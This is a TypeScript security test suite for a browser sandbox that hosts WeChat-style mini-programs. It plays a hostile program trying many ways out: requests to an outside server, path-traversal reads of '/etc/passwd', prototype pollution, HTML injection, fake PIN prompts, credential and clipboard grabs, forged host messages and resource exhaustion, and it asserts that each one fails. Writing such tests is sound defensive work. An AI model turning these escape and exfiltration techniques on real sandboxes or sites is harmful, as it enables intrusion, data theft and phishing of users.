/**
 * A program that wants out: it tries every way that is known, first as its own code in the worker, then as if it had taken
 * over the frame, then as if it could say to the host what it likes. Nothing may reach the other server, the page around
 * it, or anything that is not its own.
 */
import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, describe, it } from 'node:test'
import { openPrograms } from './harness.ts'

/** What may be left of the worker’s globals: the language, timers, and what WeChat has. */
const language =
  /^(Object|Function|Array|Number|Boolean|String|Symbol|BigInt|Date|Promise|RegExp|\w*Error|JSON|Math|Intl|Reflect|Proxy|(Weak)?(Map|Set|Ref)|FinalizationRegistry|(Shared)?ArrayBuffer|DataView|(Big)?(Ui|I)nt\d+(Clamped)?Array|Float\d+Array|Iterator|parseFloat|parseInt|isNaN|isFinite|(de|en)codeURI(Component)?|(un)?escape|eval|globalThis|Infinity|NaN|undefined|console|(set|clear)(Timeout|Interval)|queueMicrotask|Abort(Controller|Signal)|Text(En|De)coder|structuredClone|atob|btoa|Page|Component|Behavior|App|getApp|getCurrentPages|wx|__define|global|TEMPORARY|PERSISTENT|constructor|toString|valueOf|hasOwnProperty|isPrototypeOf|propertyIsEnumerable|toLocaleString|__\w+__)$/

/** In the worker: each attack says what it got, or nothing. */
const workerAttacks = (elsewhere: string) => `
  (() => {
    const got = []
    const outs = []
    const attempt = (name, run) => {
      outs.push((async () => {
        try {
          const result = await run()
          if (result !== undefined && result !== false && result !== null) got.push(name + ': ' + String(result).slice(0, 80))
        } catch {}
      })())
    }
    const global = globalThis
    for (const name of ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'RTCPeerConnection',
      'importScripts', 'Worker', 'SharedWorker', 'indexedDB', 'caches', 'BroadcastChannel', 'MessageChannel', 'MessagePort',
      'Notification', 'navigator', 'location', 'postMessage', 'onmessage', 'self', 'close', 'URL', 'Blob', 'File',
      'FileReader', 'FileReaderSync', 'Request', 'Response', 'crypto', 'performance', 'WebAssembly', 'OffscreenCanvas',
      'addEventListener', 'name', 'origin', 'scheduler', 'trustedTypes', 'StorageManager', 'document', 'window', 'process',
      'require', 'createImageBitmap', 'FontFace', 'fonts', 'reportError', 'ServiceWorker', 'Cache', 'EventTarget', 'Event'])
      attempt('global ' + name, () => typeof global[name] === 'undefined' ? undefined : typeof global[name])
    attempt('inherited', () => {
      const found = []
      for (let at = global; at && at !== Object.prototype; at = Object.getPrototypeOf(at))
        found.push(...Object.getOwnPropertyNames(at))
      return found.filter((name) => !${language}.test(name)).join() || undefined
    })
    attempt('Function', () => Function('return 1')())
    attempt('eval', () => eval('1'))
    attempt('AsyncFunction', () => (async () => {}).constructor('return 1')())
    attempt('GeneratorFunction', () => (function* () {}).constructor('yield 1')().next().value)
    attempt('timer with text', () => new Promise((resolve) => {
      setTimeout('globalThis.__textRan = true', 0)
      setTimeout(() => resolve(global.__textRan), 50)
    }))
    attempt('import of data, with the network', async () => {
      const { given } = await import('data:text/javascript,export const given = typeof fetch + typeof importScripts + typeof Worker + typeof postMessage')
      return given === 'undefinedundefinedundefinedundefined' ? undefined : given
    })
    attempt('import of another server', () => import('${elsewhere}/import.js'))
    attempt('import through data', () => import('data:text/javascript,import "${elsewhere}/nested.js"; export const a = 1'))
    attempt('stack frames', () => {
      const before = Error.prepareStackTrace
      Error.prepareStackTrace = (_, sites) => sites
      const sites = new Error().stack
      Error.prepareStackTrace = before
      for (const site of Array.isArray(sites) ? sites : []) {
        const self = site.getThis?.()
        if (self && self !== global && typeof self.postMessage === 'function') return 'a port'
      }
    })
    attempt('a poisoned Map', () => new Promise((resolve) => {
      const set = Map.prototype.set
      Map.prototype.set = function (key, value) {
        if (value && typeof value.postMessage === 'function') resolve('a port')
        return set.call(this, key, value)
      }
      wx.getStorage({ key: 'x', complete() { Map.prototype.set = set; setTimeout(resolve, 20) } })
    }))
    attempt('a poisoned Promise', () => new Promise((resolve) => {
      const then = Promise.prototype.then
      Promise.prototype.then = function (...given) { if (this.port || this.postMessage) resolve('a port'); return then.apply(this, given) }
      wx.getSystemInfo({ complete() { Promise.prototype.then = then; setTimeout(resolve, 20) } })
    }))
    attempt('cloned pollution', async () => {
      wx.reportEvent?.('x', JSON.parse('{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}'))
      await wx.setStorage({ key: '__proto__', data: { polluted: 'yes' } })
      return ({}).polluted
    })
    attempt('another page of the app', () => new Promise((resolve) => {
      let answers = 0
      for (const url of ['/../../etc/passwd', 'https://example.org', 'javascript:alert(1)', '/__proto__', '//elsewhere/x'])
        wx.navigateTo({ url, success: () => resolve('went to ' + url), fail: () => { if (++answers === 5) resolve() } })
    }))
    attempt('a file that is not its own', () => new Promise((resolve) => {
      const files = wx.getFileSystemManager?.()
      if (!files) return resolve()
      let answers = 0
      for (const filePath of ['../../../etc/passwd', '/etc/passwd', 'program.json', '__proto__', 'constructor'])
        files.readFile({ filePath, success: () => resolve('read ' + filePath), fail: () => { if (++answers === 5) resolve() } })
    }))
    const report = () => Promise.all(outs).then(() => got)
    globalThis.__report = report
  })()`

/** In the page: pictures, fonts and styles that would tell another server, by every element that shows something. */
const leaks = (elsewhere: string) => `
  <image src="${elsewhere}/image" /><cover-image src="${elsewhere}/cover" /><video src="${elsewhere}/video" poster="${elsewhere}/poster" />
  <view style="background: url(${elsewhere}/style)" />
  <view style="background-image: image-set('${elsewhere}/set' 1x)" />
  <view style="background: ur\\l(${elsewhere}/escaped); list-style: url('${elsewhere}/list'); cursor: url(${elsewhere}/cursor), auto" />
  <view class="leak" />
  <rich-text nodes="&lt;img src='${elsewhere}/rich'&gt;&lt;iframe src='${elsewhere}/rich-frame'&gt;&lt;/iframe&gt;&lt;link rel=stylesheet href='${elsewhere}/rich-link'&gt;&lt;style&gt;@import '${elsewhere}/rich-style'&lt;/style&gt;&lt;a ping='${elsewhere}/ping' href='${elsewhere}/a'&gt;x&lt;/a&gt;&lt;svg&gt;&lt;image href='${elsewhere}/svg'/&gt;&lt;/svg&gt;&lt;img src=x onerror='parent.postMessage(1)'&gt;" />
  <iframe src="${elsewhere}/frame" /><script src="${elsewhere}/script" /><object data="${elsewhere}/object" /><link rel="stylesheet" href="${elsewhere}/link" />
  <view id="done" bind:tap="go">{{done}}</view>`

describe('a hostile program', () => {
  const programs = openPrograms()
  const visits: string[] = []
  let other: Server
  let elsewhere: string
  before(async () => {
    other = createServer((request, response) => {
      visits.push(request.url ?? '')
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('')
    })
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve))
    elsewhere = `http://127.0.0.1:${(other.address() as AddressInfo).port}`
  })
  after(() => {
    other.closeAllConnections()
    other.close()
  })

  for (const isSecure of [false, true]) {
    it(`finds no way out of the worker, over ${isSecure ? 'https' : 'http'}`, async () => {
      const program = await programs.openProgram({
        isSecure,
        files: {
          'pages/a/a.wxml': leaks(elsewhere),
          'pages/a/a.wxss': `.leak { background: url('${elsewhere}/sheet') } @font-face { font-family: leak; src: url('${elsewhere}/font') } view { font-family: leak }`,
          'pages/a/a.js': `Page({
            data: { done: '' },
            onReady() {
              wx.loadFontFace({ family: 'x', source: 'url("${elsewhere}/loaded-font")' })
              wx.getImageInfo && wx.getImageInfo({ src: '${elsewhere}/info', fail() {} })
              globalThis.__report().then((got) => this.setData({ done: 'done ' + JSON.stringify(got) }))
            },
          })`,
        },
        smuggled: workerAttacks(elsewhere),
      })
      await program.frame.getByText('done').waitFor()
      assert.equal(await program.frame.locator('#done').textContent(), 'done []')
      await settled(program.page)
      assert.deepEqual(visits, [])
      assert.equal(await program.page.evaluate(() => (({}) as { polluted?: string }).polluted), undefined)
      assert.equal(await program.frame.evaluate(() => (({}) as { polluted?: string }).polluted), undefined)
      assert.equal(await program.frame.locator('iframe, script[src], object, link, embed').count(), 0)
      await program.close()
    })

    it(`has nothing outside of it when it has taken over its frame, over ${isSecure ? 'https' : 'http'}`, async () => {
      const program = await programs.openProgram({ isSecure, files: { 'pages/a/a.wxml': '<view>quiet</view>' } })
      const dialogs: string[] = []
      program.page.on('dialog', (dialog) => {
        dialogs.push(dialog.message())
        void dialog.dismiss()
      })
      const got = await program.frame.evaluate(attackFromFrame, elsewhere)
      assert.deepEqual(got, [])
      await settled(program.page)
      assert.deepEqual(visits, [])
      assert.deepEqual(dialogs, [])
      assert.equal(program.page.context().pages().length, 1)
      assert.equal(await program.page.evaluate(() => document.cookie + localStorage.length), '0')
      // Going somewhere else itself is the end of it.
      await program.frame.evaluate(() => void location.replace('about:blank')).catch(() => {})
      await program.page.waitForFunction(() => document.querySelector('iframe') === null)
      assert.deepEqual(program.endings, ['escape'])
      await program.close()
    })
  }

  it('is not believed whatever it says to the host', async () => {
    const asked: string[] = []
    const program = await programs.openProgram({
      files: { 'pages/a/a.wxml': '<view/>' },
      framePage: forgingFrame,
      calls: { harmless: () => void asked.push('harmless') },
    })
    await program.page.waitForFunction(() => (window as unknown as { forged?: unknown[] }).forged !== undefined)
    const answers = (await program.page.evaluate(() => (window as unknown as { forged: unknown[] }).forged)) as {
      id: unknown
      ok?: boolean
      blob?: unknown
    }[]
    assert.ok(answers.length >= 8)
    assert.deepEqual(
      answers.filter(({ ok, blob }) => ok === true || blob),
      [],
    )
    assert.equal(await program.page.evaluate(() => (({}) as { polluted?: string }).polluted), undefined)
    assert.deepEqual(program.endings, [])
    await program.close()
  })

  for (const [ending, name, code, watch] of [
    ['hang', 'never comes to an end', 'for (;;) {}', { pingEveryMs: 100, hangAfterMs: 300, endAfterMs: 900 }],
    ['flood', 'speaks without pause', 'for (let i = 0; i < 5000; i++) wx.vibrateShort({})', {}],
    [
      'memory',
      'draws without end',
      'const page = this; let n = 0; const more = () => { n += 2000; page.setData({ many: Array.from({ length: n }, (_, i) => i) }, more) }; more()',
      {},
    ],
  ] as const) {
    it(`is ended when it ${name}, and the app around it goes on`, async () => {
      const program = await programs.openProgram({
        files: {
          'pages/a/a.wxml':
            '<view class="go" bind:tap="go">go</view><view wx:for="{{many}}" wx:key="*this">{{item}}</view>',
          'pages/a/a.js': `Page({ data: { many: [] }, go() { ${code} } })`,
        },
        watch,
      })
      await program.frame.locator('.go').click()
      await program.page.waitForFunction(() => document.querySelector('iframe') === null, undefined, {
        timeout: 30_000,
      })
      assert.deepEqual(program.endings, [ending])
      assert.equal(
        await program.page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => resolve('alive')))),
        'alive',
      )
      await program.close()
    })
  }
})

/** Time for what was begun to be sent, as the browser counts it. */
async function settled(page: import('playwright-core').Page): Promise<void> {
  await page.evaluate(
    () => new Promise<void>((resolve) => requestIdleCallback(() => setTimeout(resolve, 200), { timeout: 2_000 })),
  )
}

type Gone = 'XMLHttpRequest' | 'WebSocket' | 'RTCPeerConnection' | 'PaymentRequest'

/** Runs in the frame, with all that a page of its own has. */
async function attackFromFrame(elsewhere: string): Promise<string[]> {
  const got: string[] = []
  const attempt = async (name: string, run: () => unknown) => {
    try {
      const result = await Promise.race([run(), new Promise((resolve) => setTimeout(resolve, 400))])
      if (result !== undefined && result !== false && result !== null && result !== '')
        got.push(`${name}: ${String(result).slice(0, 80)}`)
    } catch {
      // Refused, as it should be.
    }
  }
  const all = globalThis as unknown as Record<Gone, new (...args: unknown[]) => never>
  const add = (html: string) => void document.body.insertAdjacentHTML('beforeend', html)
  await attempt('the page around it', () => (parent.document as Document | undefined) && 'parent.document')
  await attempt('the top page', () => top?.location.href)
  await attempt('its name in the app', () => (window.frameElement as Element | null) && 'frameElement')
  await attempt('cookies', () => document.cookie)
  await attempt('storage', () => localStorage && 'localStorage')
  await attempt('session storage', () => sessionStorage && 'sessionStorage')
  await attempt(
    'a database',
    () =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open('x')
        request.onsuccess = () => resolve('indexedDB')
        request.onerror = reject
      }),
  )
  await attempt('a cache', async () => (await caches.open('x')) && 'caches')
  await attempt(
    'a service worker',
    async () => (await navigator.serviceWorker.register('/host.js')) && 'service worker',
  )
  await attempt('the network', async () => (await fetch(`${elsewhere}/fetch`)) && 'fetch')
  await attempt('its own server', async () => (await fetch('/bundle/program.json')) && 'fetch')
  await attempt('a request', () => new all.XMLHttpRequest() && 'XMLHttpRequest')
  await attempt('a socket', () => new all.WebSocket(elsewhere.replace('http', 'ws')) && 'WebSocket')
  await attempt('a peer', () => new all.RTCPeerConnection() && 'RTCPeerConnection')
  await attempt('a beacon', () => navigator.sendBeacon(`${elsewhere}/beacon`))
  await attempt('a window', () => window.open(`${elsewhere}/window`) && 'window')
  await attempt(
    'a worker with the network',
    () =>
      new Promise((resolve) => {
        const code = `const say = (text) => postMessage(text)
      try { importScripts('${elsewhere}/import-scripts') ; say('importScripts') } catch {}
      try { const request = new XMLHttpRequest(); request.open('GET', '${elsewhere}/worker-xhr', false); request.send(); say('xhr') } catch {}
      try { new WebSocket('${elsewhere.replace('http', 'ws')}/worker-socket').onopen = () => say('socket') } catch {}
      try { new Worker('data:text/javascript,fetch("${elsewhere}/nested-worker")') } catch {}
      try { new EventSource('${elsewhere}/worker-events').onopen = () => say('events') } catch {}
      fetch('${elsewhere}/worker-fetch').then(() => say('fetch'), () => {})
      import('${elsewhere}/worker-import').then(() => say('import'), () => {})
      import('data:text/javascript,import("${elsewhere}/worker-data-import")').catch(() => {})`
        new Worker(URL.createObjectURL(new Blob([code]))).onmessage = ({ data }) => resolve(data)
      }),
  )
  await attempt('a nested frame', () => {
    add(
      `<iframe src="${elsewhere}/iframe"></iframe><iframe srcdoc="<script>fetch('${elsewhere}/srcdoc')</script><img src='${elsewhere}/srcdoc-image'>"></iframe>`,
    )
  })
  await attempt('elements that load', () => {
    add(`<img src="${elsewhere}/img"><video src="${elsewhere}/video" poster="${elsewhere}/poster"></video><audio src="${elsewhere}/audio"></audio>
      <object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed"><link rel="stylesheet" href="${elsewhere}/css"><link rel="preload" as="image" href="${elsewhere}/preload">
      <link rel="prefetch" href="${elsewhere}/prefetch"><link rel="icon" href="${elsewhere}/icon"><link rel="manifest" href="${elsewhere}/manifest"><link rel="modulepreload" href="${elsewhere}/module">
      <style>@import '${elsewhere}/import'; @font-face { font-family: z; src: url('${elsewhere}/font') } * { font-family: z; background: url('${elsewhere}/background') }</style>
      <svg><image href="${elsewhere}/svg" /><use href="${elsewhere}/use#a" /></svg><input type="image" src="${elsewhere}/input">
      <form action="${elsewhere}/form" method="post" id="leaving"></form>`)
    ;(document.getElementById('leaving') as HTMLFormElement).submit()
  })
  await attempt(
    'a script',
    () =>
      new Promise((resolve) => {
        const script = document.createElement('script')
        script.src = `${elsewhere}/script`
        script.onload = () => resolve('script')
        document.body.append(script)
        const inline = document.createElement('script')
        inline.textContent = 'window.inlineRan = true'
        document.body.append(inline)
        setTimeout(() => resolve((window as unknown as { inlineRan?: boolean }).inlineRan && 'inline script'), 100)
      }),
  )
  await attempt('the whole screen, over the capsule', async () => {
    await document.documentElement.requestFullscreen()
    return 'fullscreen'
  })
  await attempt('the pointer', async () => {
    await document.documentElement.requestPointerLock()
    return document.pointerLockElement && 'pointer lock'
  })
  await attempt('questions like the app’s own', () => {
    alert('PIN?')
    return prompt('PIN?') || confirm('Pay?')
  })
  await attempt('the app’s window', () => {
    ;(top as Window).location.href = `${elsewhere}/top`
  })
  await attempt('the clipboard', () => navigator.clipboard.readText())
  await attempt(
    'where it is',
    () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('a place'), reject)),
  )
  await attempt('camera', async () => (await navigator.mediaDevices.getUserMedia({ video: true })) && 'camera')
  await attempt(
    'a payment',
    () =>
      new all.PaymentRequest([{ supportedMethods: 'basic-card' }], {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      }) && 'PaymentRequest',
  )
  await attempt(
    'a credential',
    async () => (await navigator.credentials.get({ password: true } as never)) && 'credential',
  )
  await attempt('forged words to the app', () => {
    for (const data of [{ t: 'hello' }, { t: 'ended', reason: 'crash' }, 'confirm', { type: 'pay', ok: true }])
      parent.postMessage(data, '*')
  })
  return got
}

/** Stands where the frame should: it has the ports, and says what no frame or worker of ours would. */
const forgingFrame = `<!doctype html><script>
  addEventListener('message', ({ ports }) => {
    const [frame, worker] = ports
    if (!worker) return
    const heard = []
    worker.onmessage = ({ data }) => { if (data.t === 'answer') heard.push(data) }
    frame.onmessage = ({ data }) => heard.push(data)
    const circle = {}; circle.circle = circle
    const polluted = JSON.parse('{"__proto__": {"polluted": "yes"}}')
    for (const message of [null, 7, 'text', [], {}, circle, { t: 'call' }, { t: '__proto__' }, { t: 'more', id: 99, detail: 1 },
      { t: 'abort', id: 'x' }, { t: 'pong', id: {} }, { t: 'answer', id: 1, ok: true, value: 1 }, polluted]) worker.postMessage(message)
    let id = 0
    for (const name of ['__proto__', 'constructor', 'toString', '$loadFile', '$loadText', '$anything', 'requestPaymentConfirmed', '', null, { toString() { return 'request' } }].slice(0, 9))
      for (const args of [undefined, null, polluted, circle, { path: '../program.json' }, { path: '__proto__' }, { file: 'program.json' }, { file: '../host.js' }])
        worker.postMessage({ t: 'call', id: ++id, name, args })
    for (const source of ['/etc/passwd', '../host.js', 'program.json', '__proto__', '', null, 7, 'https://example.org/x', 'file:///etc/passwd', location.href])
      frame.postMessage({ t: 'load', id: ++id, source })
    worker.postMessage({ t: 'tell', name: 'ready', detail: polluted })
    setTimeout(() => parent.postMessage({ forged: heard.map(({ id, ok, blob }) => ({ id, ok, blob: Boolean(blob) })) }, '*'), 300)
  })
  parent.postMessage({ t: 'hello' }, '*')
</script>`
